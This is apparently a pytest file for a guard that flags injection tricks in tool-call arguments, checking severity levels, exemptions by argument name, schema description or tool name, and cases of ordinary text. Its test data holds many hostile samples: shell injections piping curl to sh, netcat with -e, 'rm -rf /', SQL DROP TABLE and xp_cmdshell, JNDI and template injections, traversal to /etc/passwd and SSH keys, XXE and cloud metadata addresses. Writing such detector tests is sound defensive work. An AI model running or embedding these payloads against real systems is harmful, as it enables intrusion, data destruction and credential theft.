"""The guard of tricks in arguments: forms, where they are to be expected, and how sure it is."""

from dataclasses import replace

import pytest

from doorward.domain.calls import Call
from doorward.domain.findings import Finding, Part, Severity
from doorward.inspection.guards.tricks import MOST, RULES, Tricks
from doorward.inspection.view import Carrier, View
from tests.made import call

LOW, MEDIUM, HIGH = Severity.LOW, Severity.MEDIUM, Severity.HIGH


def look(arguments: dict[str, object], tool: str = "lookup", schema: object = None) -> tuple[Finding, ...]:
    def define(call: Call) -> dict[str, object]:
        return {"inputSchema": schema}

    asked = replace(call(), target=replace(call().target, name=tool))
    return Tricks(define).look(View(Carrier.REQUEST, asked, {"arguments": arguments, "extras": {}}))


def grave(text: str, name: str = "item") -> set[tuple[str, Severity]]:
    return {(finding.rule, finding.severity) for finding in look({name: text})}


SURE = {
    "encoded_traversal": ("%2e%2e%2fetc", "..%2f..%2fx", "..%5cx", "%252e%252e%252fx", "..%c0%afx", "..\u2215x", "%2e./x", "..;/admin", "..%u2216x"),
    "deep_traversal": ("../../../../x", "..\\..\\..\\..\\x", "....//....//....//....//x", "../../etc/passwd", "a/../../proc/self/maps"),
    "shell_injection": (
        "x; id", "a.txt;cat /etc/hosts", "`whoami`", "$(id)", "x|/bin/sh|", "|| ls -la", "&& curl http://a.example", "a;rm -rf /", "cat${IFS}x",
        "curl http://a.example | sh", "nc -lp 1 -e x", "<!--#exec cmd='x'-->", "x%0a/bin/ls -l", "a%3Bid%3B", "&lt;!--#exec cmd=x--&gt;",
    ),
    "sql_injection": (
        "' or '1'='1", "\" OR 1=1 --", "1) or (1=1", "x' and 1=1#", "1 UNION ALL SELECT null", "union/**/select 1",
        "1; DROP TABLE users", "1;delete from t",
        "sleep(5)", "1 and benchmark(1000000,md5(1))", "'; waitfor delay '0:0:5'--", "1%27%20or%201%3d1", "exec xp_cmdshell 'x'", "' or true--",
    ),
    "template_injection": (
        "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://a.example/x}", "${${lower:j}ndi:x}", "{{''.__class__}}", "{{config}}", "<%= 7*7 %>",
        "*{T(java.lang.Runtime)}", "{% import os %}", "<#assign x=1>",
    ),
    "nosql_injection": ("{\"$ne\": null}", "{$gt: ''}", "user[$ne]=x", "';return true;var x='", "$where: 1", "x.db.users.drop() db.users.drop()"),
    "directory_injection": ("*)(uid=*", "x)(|(cn=*)", "*))%00"),
    "xpath_injection": ("' or count(//user)=1", "']|//user"),
    "header_injection": ("x%0d%0aSet-Cookie: a=b", "x\r\nLocation: https://a.example"),
    "external_entity": ("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]>", "<!ENTITY % x PUBLIC 'a' 'b'>"),
    "metadata_address": ("http://169.254.169.254/latest/", "http://metadata.google.internal/", "http://2852039166/", "http://0xa9fea9fe/", "http://[fd00:ec2::254]/"),
}  # fmt: skip


@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in SURE.items() for text in texts])
def test_unmistakable_trick_in_a_short_argument_is_high(rule: str, text: str) -> None:
    assert (rule, HIGH) in grave(text)


LIKELY = {
    "path_traversal": ("../../lib", "..\\..\\lib", ".../...//"),
    "system_path": ("/etc/passwd", "C:\\Windows\\win.ini", "/home/me/.ssh/id_rsa"),
    "unc_path": ("\\\\away.example\\share",),
    "null_byte": ("x.png%00.txt",),
    "shell_command": ("ls -la", "curl https://a.example", "system('x')"),
    "sql_form": ("admin'--", "order by 7#", "select name from users", "1 or 1=1"),
    "template_form": ("<% x %>", "#{x}", "${env:HOME}"),
    "odd_scheme": ("gopher://a.example:70/x",),
}


@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in LIKELY.items() for text in texts])
def test_likely_trick_is_medium_and_no_more(rule: str, text: str) -> None:
    assert (rule, MEDIUM) in grave(text)
    assert HIGH not in {severity for _, severity in grave(text)}


ORDINARY = (
    "O'Brien & Sons; 50% off (or more)", "Tom & Jerry", "gross & net", "Q&A | type", "../src/app.ts", "src/lib/../x", "~/notes.md", "a || b",
    "Where is the table? Select one from below; drop me a line.", "{{name}}", "Hello {{ user.name }}!", "${HOME}/x", "$5.00", "#channel",
    "https://a.example/?q=a%20b&lang=en", "https://a.example/a;b=1?x[]=1", "SELECT", "it's 5 o'clock -- nearly", "don't", "a..b",
    "and/or", "C:\\work\\a.txt",
    "user@example.com", "2024-01-01T00:00:00Z", "{\"a\": [1, 2]}", "line one\nline two: host: x", "$price", "<b>bold</b>", "(555) 010-9999", "100.5%",
)  # fmt: skip


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_argument_is_none(text: str) -> None:
    assert HIGH not in {severity for _, severity in grave(text)}
    assert "shell_injection" not in {rule for rule, _ in grave(text)}


@pytest.mark.parametrize("text", [text for text in ORDINARY if ";" not in text and "<" not in text])
def test_nothing_is_said_of_most_ordinary_arguments(text: str) -> None:
    assert grave(text) == set()


PROSE = (
    "Our documentation explains that an attacker might send something like ' or '1'='1 to a login form, or a path such as ../../../../etc/passwd, "
    "and that both of these are stopped by the parameters that the library binds for you."
)


def test_tricks_that_prose_tells_of_are_low() -> None:
    assert grave(PROSE) == {("sql_injection", LOW), ("deep_traversal", LOW)}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("command", "x; id"), ("bash_command", "ls | xargs rm -rf /"), ("sql", "1; DROP TABLE users"), ("sqlQuery", "select 1 union select 2"),
        ("code", "${7*7}"),
        ("file_text", "../../../../etc/passwd"), ("new_str", "`whoami`"), ("filter", "{\"$ne\": null}"), ("template", "{{7*7}}"),
        ("xpath", "' or count(//a)=1"),
        ("query", "select 1 union select 2"), ("content", "<!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]>"), ("headers", "x\r\nHost: a"),
        ("pattern", "#{7*7}"),
    ],
)  # fmt: skip
def test_what_an_argument_is_for_is_no_trick_in_it(name: str, text: str) -> None:
    assert grave(text, name) == set()
    assert grave(text) != set()


@pytest.mark.parametrize(
    ("description", "text"),
    [
        ("The shell command to run", "x; id"),
        ("SQL to execute", "1 union select 2"),
        ("A Jinja2 template", "{{7*7}}"),
        ("Source code", "`id`"),
    ],
)
def test_what_a_description_says_an_argument_is_for_is_no_trick_in_it(description: str, text: str) -> None:
    schema = {"properties": {"it": {"type": "object", "properties": {"x": {"description": description}}}}}
    assert look({"it": {"x": text}}, schema=schema) == ()
    assert look({"it": {"y": text}}, schema=schema) != ()


def test_a_tool_says_by_its_name_what_it_runs() -> None:
    assert look({"it": "x; id"}, tool="run_shell") == ()
    assert look({"it": "1 union select 2"}, tool="run_shell") != ()
    assert look({"it": "1 union select 2"}, tool="postgres_read") == ()


def test_only_the_family_that_is_expected_is_let_be() -> None:
    assert [finding.rule for finding in look({"sql": "x; id; $(id)"})] == ["shell_injection", "shell_command"]


def test_operators_are_found_as_keys() -> None:
    assert look({"user": {"$ne": ""}, "x": {"$where": "1"}}) == (
        Finding("tricks", "nosql_operator", MEDIUM, "/arguments/user/$ne", 0, 0, Part.KEY),
        Finding("tricks", "nosql_injection", HIGH, "/arguments/x/$where", 0, 0, Part.KEY),
    )


def test_what_a_person_or_a_model_has_answered_is_looked_at_too() -> None:
    asked = {"arguments": {}, "extras": {"inputResponses": {"a": {"action": "accept", "content": {"branch": "x; id"}}}}}
    found = Tricks(lambda call: None).look(View(Carrier.REQUEST, call(), asked))
    assert {finding.pointer for finding in found} == {"/extras/inputResponses/a/content/branch"}


def test_answers_are_not_looked_at() -> None:
    assert Tricks(lambda call: None).look(View(Carrier.RESPONSE, call(), {"content": [{"type": "text", "text": "x; id"}]})) == ()


def test_findings_of_one_message_are_bounded_and_rules_are_known() -> None:
    found = look({f"a{number}": "x; id" for number in range(2 * MOST)})
    assert len(found) == MOST
    assert {finding.rule for finding in found} <= RULES.keys()
